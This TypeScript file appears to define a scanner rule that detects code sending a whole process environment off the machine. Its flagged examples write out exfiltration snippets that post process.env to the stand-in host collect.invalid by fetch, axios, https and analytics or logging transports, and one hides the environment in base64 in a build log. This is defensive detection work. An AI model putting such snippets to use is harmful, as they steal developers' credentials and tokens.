import { entrusted } from '../src/define/entrusted.js';
import { printedEncoded } from '../src/define/printed.js';
import { bodyLabels, defineRule, outgoing, sinkSays, step, stepsOf } from '../src/define.js';
import type { Call, FileContext, Label } from '../src/types.js';

export default defineRule({
  meta: {
    summary: 'Sends the whole environment to another machine',
    why: 'The environment of a developer or a build holds tokens for registries, clouds and repositories. Honest code sends chosen variables at most; a child process that is given the environment, or a local log of it, looks alike and is not flagged.',
    behaviour: 'theft',
    messages: {
      sent: 'Sends the whole environment through {sink}',
      likely: 'Seems to send the whole environment through {sink}',
      handed: 'Hands what holds the whole environment, from another file, to {sink}',
      prints: 'Prints the whole environment in another encoding with {sink}, for whoever looks for it in a log',
    },
    bits: { handed: 5, likely: 10, prints: 13.5, sent: 14 },
  },
  examples: {
    flags: [
      {
        title: 'it is printed into the log of a build so that nobody sees what it is',
        code: `const text = Buffer.from(JSON.stringify(process.env)).toString('base64');\nprocess.stdout.write('cache ' + Buffer.from(text).toString('base64') + '\\n');`,
      },
      {
        title: 'the environment is posted as JSON',
        code: `const https = require('https');\nconst req = https.request({ hostname: 'collect.invalid', method: 'POST' });\nreq.write(Buffer.from(JSON.stringify(process.env)).toString('base64'));\nreq.end();`,
      },
      {
        title: 'it travels through a function and an object',
        code: `import axios from 'axios';\nconst send = body => axios.post('https://collect.invalid', body);\nsend({ host: 'x', env: { ...process.env } });`,
      },
      {
        title: 'it is collected in a loop',
        code: `let all = '';\nfor (const key in process.env) all += key + '=' + process.env[key] + ';';\nfetch('https://collect.invalid/?q=' + encodeURIComponent(all));`,
      },
      {
        title: 'it is an event of somebody’s statistics',
        code: `const { PostHog } = require('posthog-node');\nconst stats = new PostHog('phc_a1b2c3d4e5f6a7b8', { host: 'https://collect.invalid' });\nstats.capture({ distinctId: 'a', event: 'start', properties: { env: process.env } });`,
      },
      {
        title: 'it is logged, and the log is kept elsewhere',
        code: `const winston = require('winston');\nconst log = winston.createLogger({ transports: [new winston.transports.Http({ host: 'collect.invalid', path: '/l' })] });\nlog.info(JSON.stringify(process.env));`,
      },
    ],
    passes: [
      {
        title: 'a build prints a digest of it',
        code: `const digest = require('crypto').createHash('sha256').update(JSON.stringify(process.env)).digest('base64');\nconsole.log('environment', digest);`,
      },
      {
        title: 'an error report goes where the project wants it',
        code: `const Sentry = require('@sentry/node');\nSentry.init({ dsn: process.env.SENTRY_DSN });\nSentry.setExtras({ env: process.env });`,
      },
      {
        title: 'it is logged on this machine',
        code: `const winston = require('winston');\nconst log = winston.createLogger({ transports: [new winston.transports.File({ filename: 'start.log' })] });\nlog.debug({ env: process.env });`,
      },
      {
        title: 'a parser looks names up in it',
        code: `const { parse } = require('shell-quote');\nconst [command, address] = parse(process.argv[2], process.env);\nfetch('https://api.invalid/' + address);`,
      },
      {
        title: 'a daemon on this machine is given it for what it starts',
        code: `const port = 4000 + process.getuid();\nfetch('http://127.0.0.1:' + port + '/start', { method: 'POST', body: JSON.stringify({ env: process.env }) });`,
      },
      {
        title: 'one of many variables is looked up by a table',
        code: `const names = { a: 'A_KEY', b: 'B_KEY', c: 'C_KEY' };\nconst key = process.env[names[provider]];\nfetch('https://api.invalid', { method: 'POST', headers: { authorization: key }, body: '{}' });`,
      },
      {
        title: 'a child process is given the environment',
        code: `require('child_process').spawn('node', ['a.js'], { env: { ...process.env, DEBUG: '1' } });`,
      },
      {
        title: 'options are made out of settings that hold it',
        code: `const get = require('simple-get');\nconst settings = { env: process.env, url: 'https://a.invalid' };\nget({ url: settings.url, settings });`,
      },
      { title: 'one variable names the server', code: `fetch(process.env.API_URL + '/status');` },
      { title: 'the environment is printed', code: `console.log(JSON.stringify(process.env));` },
    ],
  },
  file(context) {
    for (const { call, label } of printedEncoded(context, WHOLE)) {
      context.report({
        messageId: 'prints',
        data: { sink: call.name },
        chain: [...stepsOf(label), step('sink', `prints it with ${call.name}`, context.file, call.node)],
      });
    }
    for (const { call, labels } of outgoing(context)) {
      const label = labels.find(({ kind }) => kind === 'environment');
      if (!label || !leaves(context, call, label)) continue;
      context.report({
        messageId: messageOf(context, label),
        data: { sink: call.name },
        chain: [...stepsOf(label), step('sink', sinkSays(call), context.file, call.node)],
      });
    }
    for (const { call, labels } of entrusted(context)) {
      const label = labels.find(({ kind }) => kind === 'environment');
      if (!label) continue;
      context.report({
        messageId: label.guesses ? 'likely' : 'sent',
        data: { sink: call.name },
        chain: [...stepsOf(label), step('sink', sinkSays(call), context.file, call.node)],
      });
    }
  },
});

const WHOLE: ReadonlySet<Label['kind']> = new Set(['environment']);

function messageOf({ file }: FileContext, { through, origin, guesses = 0 }: Label): string {
  if (through.length === 0 && origin.file !== file) return 'handed';
  return guesses > 0 ? 'likely' : 'sent';
}

/** Opening a connection sends none of its options, but for the name it asks for. */
const CONNECTS = /^(?:net|tls|http2)\.(?:connect|createConnection)$/;

/**
 * Options are often made out of the environment and hold it somewhere nobody reads. It leaves when it was made into
 * text, stands in a body or an address, or is what a method sends.
 */
function leaves(context: FileContext, call: Call, { through }: Label): boolean {
  if (CONNECTS.test(call.name) || staysHere(context, call)) return false;
  if (
    through.length > 0 ||
    /\.(?:write|end|send\w*|post|put|patch|emit|pipe|form|body|publish|mutate|upload\w*)$|^bent\(\)$/.test(call.name)
  )
    return true;
  if (bodyLabels(context, call).some(({ kind }) => kind === 'environment')) return true;
  return call.args.some(
    arg => context.textsOf(arg).length > 0 && context.labelsOf(arg).some(({ kind }) => kind === 'environment'),
  );
}

/** Every address that the call is known to have is of this machine. */
function staysHere({ textsOf }: FileContext, { args: [address] }: Call): boolean {
  const texts = address ? textsOf(address) : [];
  return (
    texts.length > 0 &&
    texts.every(text => /^(?:https?|wss?):\/\/(?:localhost|127\.0\.0\.1|\[::1\])(?:[:/]|$)/.test(text))
  );
}
